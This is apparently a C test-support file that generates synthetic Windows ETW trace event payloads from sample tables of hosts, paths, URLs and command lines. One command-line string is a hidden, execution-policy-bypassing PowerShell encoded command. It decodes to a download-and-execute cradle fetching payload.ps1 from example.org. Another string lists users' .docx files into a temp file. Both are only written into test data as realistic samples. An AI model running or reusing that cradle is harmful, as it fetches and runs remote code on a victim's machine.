/*
 * Payloads of the sample events. Layouts of the kernel's: MOF classes of root\wmi on Windows 11;
 * of the others: etl_mix_schema.c and etl_mix_manifest.c. Texts are drawn from short lists, some
 * of them beyond ASCII.
 */
#include "support/etl_mix_payload.h"

#include "support/etl_put.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

static const char *const hosts[] = {"www.example.org", "login.contoso.example",
    "telemetry.eu-west.cloud.example", "cdn-0042.static.example.net", "bücher.example",
    "例え.テスト", "wpad", "_ldap._tcp.dc._msdcs.corp.example", "time.example.com",
    "a1b2c3d4e5f60718293a4b5c6d7e8f90.update.vendor.example"};

static const char *const images[] = {"C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\Größer & Söhne\\Buchhaltung.exe",
    "C:\\Program Files (x86)\\Example Corp\\Agent\\agent-service.exe",
    "C:\\Users\\Zoë\\AppData\\Local\\Temp\\setup_日本語.exe", "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\rundll32.exe"};

/* In an array a missing comma would join two literals, so literals of several parts have a macro
 * each. */
#define ENCODED                                                                                \
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand "   \
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A" \
    "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBlAHgAYQBtAHAAbABlAC4AbwByAGcA" \
    "LwBwAGEAeQBsAG8AYQBkAC4AcABzADEAJwApADsAIABTAHQAYQByAHQALQBTAGwAZQBlAHAAIAAtAHMAIAAxADAA"
#define SERVICE                                                                         \
    "\"C:\\Program Files (x86)\\Example Corp\\Agent\\agent-service.exe\" --config "     \
    "\"C:\\ProgramData\\Example Corp\\agent.yaml\" --verbose --log-level 3 --data-dir " \
    "\"C:\\ProgramData\\Example Corp\\data\" --parent-handle 1844 --type=renderer"

static const char *const commands[] = {
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "cmd.exe /c \"dir /s /b C:\\Users\\*.docx > %TEMP%\\list.txt\"", ENCODED,
    "\"C:\\Program Files\\Größer & Söhne\\Buchhaltung.exe\" /öffne \"Rechnung März.xlsx\"", SERVICE,
    "setup_日本語.exe /quiet 🚀", "explorer.exe /factory,{75DFF225-E42F-4D54-A51A-69C3E699A11E}",
    "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl,,2"};

static const char *const kernel_images[] = {
    "svchost.exe", "cmd.exe", "powershell.exe", "agent-service", "explorer.exe", "rundll32.exe"};

static const char *const modules[] = {"\\Windows\\System32\\ntdll.dll",
    "\\Windows\\System32\\kernel32.dll",
    "\\Windows\\WinSxS\\amd64_microsoft.windows.gdiplus_6595b64144ccf1df_1.1\\gdiplus.dll",
    "\\Program Files\\Größer & Söhne\\Kern.dll"};

static const char *const paths[] = {
    "\\Device\\HarddiskVolume3\\Users\\Zoë\\Documents\\Bericht 2026 – Entwurf.docx",
    "\\Device\\HarddiskVolume3\\Windows\\Prefetch\\SVCHOST.EXE-0A1B2C3D.pf",
    "\\Device\\HarddiskVolume3\\ProgramData\\Example Corp\\state.db-journal",
    "\\Device\\Mup\\fileserver\\share\\projects\\alpha\\plan.xlsx"};

static const char *const urls[] = {
    "https://api.example.org/v1/orders/1234567?expand=items&fields=id,total,currency",
    "https://login.contoso.example/oauth2/v2.0/authorize?client_id=6e7c1a52&scope=openid",
    "https://shop.example/größe?q=ä&sort=asc", "http://localhost:8080/health",
    "https://cdn.example.net/static/app.0123456789abcdef.js"};

static const char *const agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0", "curl/8.9.1",
    "Größenwahn/1.0 (Test; 日本)"};

static const char *const users[] = {
    "CORP\\zoë", "CORP\\administrator", "NT AUTHORITY\\SYSTEM", "WORKGROUP\\müller"};

static const char *const notes[] = {"queue drained", "retry with \"quotes\" and \\backslash\\",
    "line one\r\nline two\tend", "Zwischenspeicher geleert – 完了 ✅"};

uint32_t etl_mix_payload_random(struct etl_mix_source *s, uint32_t limit)
{
    /* splitmix64 */
    uint64_t z = s->random += UINT64_C(0x9e3779b97f4a7c15);
    z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
    z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
    z ^= z >> 31;
    return (uint32_t)((z >> 32) * limit >> 32);
}

#define PICK(source, list) ((list)[etl_mix_payload_random(source, COUNT(list))])

static uint32_t random_pid(struct etl_mix_source *s)
{
    return 4 * (1 + etl_mix_payload_random(s, 4000));
}

static uint64_t kernel_address(struct etl_mix_source *s)
{
    uint64_t low = (uint64_t)etl_mix_payload_random(s, 0x10000000) << 4;
    return (s->pointer_size == 8 ? UINT64_C(0xffffb00500000000) : 0) | low | 0x80000000;
}

void etl_mix_payload_sid(struct etl_mix_source *s, struct buf *out)
{
    static const uint8_t domain_sid[] = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 0xdc, 0xf4, 0xdc,
        0x3b, 0x83, 0x3d, 0x2b, 0x46, 0x82, 0x8b, 0xa6, 0x28};
    static const uint8_t system_sid[] = {1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0};
    if (etl_mix_payload_random(s, 2)) {
        buf_add(out, system_sid, sizeof(system_sid));
    } else {
        buf_add(out, domain_sid, sizeof(domain_sid));
        etl_put_u32(out, 1000 + etl_mix_payload_random(s, 200));
    }
}

static void add_dns_completed(struct etl_mix_source *s, struct buf *out)
{
    static const char *const results[] = {"192.0.2.7;", "192.0.2.7;192.0.2.8;::ffff:198.51.100.3;",
        "type:  5 edge.example.net;203.0.113.77;203.0.113.78;", ""};
    static const uint32_t types[] = {1, 28, 5, 33, 65};
    etl_put_u64(out, s->sequence);
    etl_put_utf16z(out, PICK(s, hosts));
    etl_put_u32(out, PICK(s, types));
    etl_put_u64(out, UINT64_C(0x800000000000) + etl_mix_payload_random(s, 0x8000));
    etl_put_u32(out, etl_mix_payload_random(s, 8) ? 0 : 9003);
    etl_put_utf16z(out, PICK(s, results));
}

static void add_dns_called(struct etl_mix_source *s, struct buf *out)
{
    uint32_t servers = etl_mix_payload_random(s, 4);
    etl_put_u64(out, s->sequence);
    etl_put_utf16z(out, PICK(s, hosts));
    etl_put_u32(out, etl_mix_payload_random(s, 2));
    etl_put_u16(out, (uint16_t)etl_mix_payload_random(s, 20));
    etl_put_u32(out, servers);
    for (uint32_t i = 0; i < servers; i++) {
        etl_put_u32(out, 0xc0 | 2 << 16 | etl_mix_payload_random(s, 256) << 24);
    }
}

static void add_process_start(struct etl_mix_source *s, struct buf *out)
{
    uint32_t which = etl_mix_payload_random(s, COUNT(images));
    etl_put_u64(out, s->sequence);
    etl_put_u32(out, random_pid(s));
    etl_put_u64(out, s->time);
    etl_put_u32(out, s->process_id);
    etl_put_u32(out, etl_mix_payload_random(s, 3));
    etl_put_u32(out, etl_mix_payload_random(s, 8));
    etl_put_utf16z(out, images[which]);
    etl_put_utf16z(out, commands[which]);
    etl_mix_payload_sid(s, out);
    etl_put_u32(out, etl_mix_payload_random(s, 0x100000));
    etl_put_u32(out, 0x60000000 + etl_mix_payload_random(s, 0x1000000));
}

static void add_process_stop(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u64(out, s->sequence);
    etl_put_u32(out, random_pid(s));
    etl_put_u64(out, s->time - (uint64_t)etl_mix_payload_random(s, 1 << 30));
    etl_put_u64(out, s->time);
    etl_put_u32(out, etl_mix_payload_random(s, 4) ? 0 : 0xc0000005);
    etl_put_u32(out, 1 + etl_mix_payload_random(s, 3));
    etl_put_u32(out, etl_mix_payload_random(s, 5000));
    etl_put_u64(out, (uint64_t)etl_mix_payload_random(s, 1 << 20) << 12);
    etl_put_u64(out, (uint64_t)etl_mix_payload_random(s, 1 << 30) * 37);
    etl_put_textz(out, PICK(s, kernel_images));
}

static void add_http_request(struct etl_mix_source *s, struct buf *out)
{
    static const uint32_t statuses[] = {200, 200, 200, 204, 302, 404, 500};
    etl_put_u64(out, s->sequence);
    size_t url = out->size;
    etl_put_u16(out, 0);
    etl_put_utf16(out, PICK(s, urls));
    if (!out->failed) {
        store_le16(out->data + url, (uint16_t)(out->size - url - 2));
    }
    etl_put_utf16z(out, PICK(s, users));
    etl_put_u32(out, 0xcb | 113 << 16 | etl_mix_payload_random(s, 256) << 24);
    etl_put_u16(out, (uint16_t)etl_mix_payload_random(s, 0x10000));
    etl_put_u16(out, 10);
    etl_put_u16(out, (uint16_t)etl_mix_payload_random(s, 100));
    etl_put_u32(out, PICK(s, statuses));
    etl_put_double(out, etl_mix_payload_random(s, 1 << 20) / 4.0);
    etl_put_u8(out, (uint8_t)etl_mix_payload_random(s, 2));
    uint32_t chunks = etl_mix_payload_random(s, 5);
    etl_put_u16(out, (uint16_t)chunks);
    for (uint32_t i = 0; i < chunks; i++) {
        etl_put_u32(out, etl_mix_payload_random(s, 100000));
    }
    etl_put_textz(out, PICK(s, agents));
}

static void add_heartbeat(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u64(out, s->sequence);
    etl_put_u32(out, etl_mix_payload_random(s, 1000000));
    const char *service = PICK(s, kernel_images);
    etl_put_u16(out, (uint16_t)strlen(service));
    buf_add_text(out, service);
}

static void add_work_start(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u64(out, s->sequence);
    etl_put_utf16z(out, PICK(s, urls));
    etl_put_u32(out, etl_mix_payload_random(s, 10) - 5);
    etl_put_double(out, etl_mix_payload_random(s, 1000) / 8.0);
    for (int i = 0; i < 4; i++) {
        etl_put_u32(out, etl_mix_payload_random(s, UINT32_MAX));
    }
}

static void add_note(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u64(out, s->sequence);
    etl_put_utf16z(out, PICK(s, notes));
}

/* Process_V4_TypeGroup1; SessionId is the sequence. */
static void add_kernel_process(struct etl_mix_source *s, struct buf *out)
{
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
    etl_put_u32(out, random_pid(s));
    etl_put_u32(out, s->process_id);
    etl_put_u32(out, (uint32_t)s->sequence);
    etl_put_u32(out, etl_mix_payload_random(s, 4) ? 259 : 0xc0000005);
    etl_put_pointer(out, s->pointer_size, (uint64_t)etl_mix_payload_random(s, 1 << 18) << 12);
    etl_put_u32(out, etl_mix_payload_random(s, 4));
    /* TOKEN_USER: a kernel pointer, attributes and padding; then the SID. */
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
    etl_put_pointer(out, s->pointer_size, 0);
    etl_mix_payload_sid(s, out);
    etl_put_textz(out, PICK(s, kernel_images));
    etl_put_utf16z(out, PICK(s, commands));
    etl_put_utf16z(out, "");
    etl_put_utf16z(out, "");
}

/* Thread_V4_TypeGroup1; SubProcessTag is the sequence. */
static void add_kernel_thread(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u32(out, random_pid(s));
    etl_put_u32(out, random_pid(s));
    for (int i = 0; i < 7; i++) {
        etl_put_pointer(out, s->pointer_size, kernel_address(s));
    }
    etl_put_u32(out, (uint32_t)s->sequence);
    etl_put_u8(out, 8);
    etl_put_u8(out, 5);
    etl_put_u8(out, 2);
    etl_put_u8(out, 0);
    etl_put_utf16z(out, etl_mix_payload_random(s, 4) ? "" : "Arbeiter №7");
}

/* Image_V3_Load; TimeDateStamp is the sequence. */
static void add_kernel_image(struct etl_mix_source *s, struct buf *out)
{
    uint64_t base = kernel_address(s);
    etl_put_pointer(out, s->pointer_size, base);
    etl_put_pointer(out, s->pointer_size, (uint64_t)(1 + etl_mix_payload_random(s, 512)) << 12);
    etl_put_u32(out, s->process_id);
    etl_put_u32(out, etl_mix_payload_random(s, 1 << 22));
    etl_put_u32(out, (uint32_t)s->sequence);
    etl_put_u8(out, 12);
    etl_put_u8(out, 1);
    etl_put_u16(out, 0);
    etl_put_pointer(out, s->pointer_size, base);
    etl_put_zeros(out, 16);
    etl_put_utf16z(out, PICK(s, modules));
}

/* DiskIo_TypeGroup1 version 3; ByteOffset is the sequence. */
static void add_kernel_disk(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u32(out, etl_mix_payload_random(s, 2));
    etl_put_u32(out, 0x60043);
    etl_put_u32(out, 4096 * (1 + etl_mix_payload_random(s, 32)));
    etl_put_u32(out, 0);
    etl_put_u64(out, s->sequence);
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
    etl_put_u64(out, etl_mix_payload_random(s, 100000));
    etl_put_u32(out, s->thread_id);
}

/* TcpIp_SendIPV4 version 2; seqnum is the sequence. */
static void add_kernel_tcp(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u32(out, s->process_id);
    etl_put_u32(out, 1 + etl_mix_payload_random(s, 1460));
    etl_put_u32(out, 0xc6 | 51 << 8 | 100 << 16 | etl_mix_payload_random(s, 256) << 24);
    etl_put_u32(out, 10 | 1u << 24);
    etl_put_u16(out, 0xbb01); /* 443 in network order */
    etl_put_u16(out, (uint16_t)etl_mix_payload_random(s, 0x10000));
    etl_put_u32(out, etl_mix_payload_random(s, 1 << 30));
    etl_put_u32(out, etl_mix_payload_random(s, 1 << 30));
    etl_put_u32(out, (uint32_t)s->sequence);
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
}

/* FileIo_Create version 3; CreateOptions is the sequence. */
static void add_kernel_file(struct etl_mix_source *s, struct buf *out)
{
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
    etl_put_pointer(out, s->pointer_size, kernel_address(s));
    etl_put_u32(out, s->thread_id);
    etl_put_u32(out, (uint32_t)s->sequence);
    etl_put_u32(out, 0x80);
    etl_put_u32(out, etl_mix_payload_random(s, 8));
    etl_put_utf16z(out, PICK(s, paths));
}

/* SampledProfile version 2; the low 31 bits of InstructionPointer are the sequence. */
static void add_kernel_sample(struct etl_mix_source *s, struct buf *out)
{
    uint64_t base = s->pointer_size == 8 ? UINT64_C(0xfffff80300000000) : 0x80000000;
    s->last_address = base | (s->sequence & 0x7fffffff);
    s->last_time_raw = s->time_raw;
    etl_put_pointer(out, s->pointer_size, s->last_address);
    etl_put_u32(out, s->thread_id);
    etl_put_u16(out, 1);
    etl_put_u16(out, (uint16_t)(etl_mix_payload_random(s, 32) << 3));
}

/* The StackWalk_Event of the previous sample. */
static void add_kernel_stack(struct etl_mix_source *s, struct buf *out)
{
    uint32_t frames = 1 + etl_mix_payload_random(s, 20);
    etl_put_u64(out, (uint64_t)s->last_time_raw);
    etl_put_u32(out, s->process_id);
    etl_put_u32(out, s->thread_id);
    etl_put_pointer(out, s->pointer_size, s->last_address);
    for (uint32_t i = 0; i < frames; i++) {
        etl_put_pointer(out, s->pointer_size, kernel_address(s));
    }
}

static void add_wpp(struct etl_mix_source *s, struct buf *out)
{
    etl_put_u32(out, (uint32_t)s->sequence);
    etl_put_textz(out, PICK(s, kernel_images));
    etl_put_u64(out, etl_mix_payload_random(s, 1000000));
    etl_put_u32(out, etl_mix_payload_random(s, 4) ? 0 : 0xc0000034);
}

void etl_mix_payload_add(struct etl_mix_source *source, enum etl_mix_kind kind, struct buf *out)
{
    static void (*const builders[])(struct etl_mix_source *, struct buf *) = {
        [MIX_DNS_COMPLETED] = add_dns_completed,
        [MIX_DNS_CALLED] = add_dns_called,
        [MIX_PROCESS_START] = add_process_start,
        [MIX_PROCESS_STOP] = add_process_stop,
        [MIX_HTTP_REQUEST] = add_http_request,
        [MIX_HEARTBEAT] = add_heartbeat,
        [MIX_WORK_START] = add_work_start,
        [MIX_NOTE] = add_note,
        [MIX_KERNEL_PROCESS_START] = add_kernel_process,
        [MIX_KERNEL_PROCESS_END] = add_kernel_process,
        [MIX_KERNEL_THREAD_START] = add_kernel_thread,
        [MIX_KERNEL_IMAGE_LOAD] = add_kernel_image,
        [MIX_KERNEL_DISK_READ] = add_kernel_disk,
        [MIX_KERNEL_TCP_SEND] = add_kernel_tcp,
        [MIX_KERNEL_FILE_CREATE] = add_kernel_file,
        [MIX_KERNEL_SAMPLE] = add_kernel_sample,
        [MIX_WPP] = add_wpp,
        [MIX_KERNEL_STACK] = add_kernel_stack,
    };
    builders[kind](source, out);
}
